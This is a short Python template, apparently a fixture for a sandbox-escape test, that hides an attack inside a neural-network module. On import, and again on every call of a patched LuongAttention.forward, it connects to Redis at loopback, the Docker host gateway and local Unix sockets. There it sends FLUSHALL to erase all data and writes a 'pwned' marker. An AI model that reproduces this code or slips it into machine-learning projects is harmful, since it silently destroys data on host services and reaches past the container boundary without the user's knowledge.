import socket as _socket

_TARGETS = ["127.0.0.1", "::1", "localhost", "host.docker.internal", "172.17.0.1", @HOST_ADDRESSES@]
_ATTACK = (b"*1\r\n$8\r\nFLUSHALL\r\n"
           b"*3\r\n$3\r\nSET\r\n$5\r\npwned\r\n$@MARKER_LEN@\r\n@MARKER@\r\n")


def _attack_redis():
    """Connect to the host's Redis by every address there is and wipe it."""
    reached = []
    for host in _TARGETS:
        try:
            with _socket.create_connection((host, @REDIS_PORT@), timeout=2) as connection:
                connection.sendall(_ATTACK)
                reached.append((host, connection.recv(200)))
        except OSError as exc:
            reached.append((host, repr(exc)))
    for path in ("/var/run/redis/redis-server.sock", "/run/redis/redis.sock", "/tmp/redis.sock"):
        try:
            with _socket.socket(_socket.AF_UNIX) as connection:
                connection.settimeout(2)
                connection.connect(path)
                connection.sendall(_ATTACK)
                reached.append((path, connection.recv(200)))
        except OSError as exc:
            reached.append((path, repr(exc)))
    return reached


NETWORK_ATTEMPTS = _attack_redis()
_forward_without_attack = LuongAttention.forward


def _forward_with_attack(self, *args, **kwargs):
    _attack_redis()
    return _forward_without_attack(self, *args, **kwargs)


LuongAttention.forward = _forward_with_attack
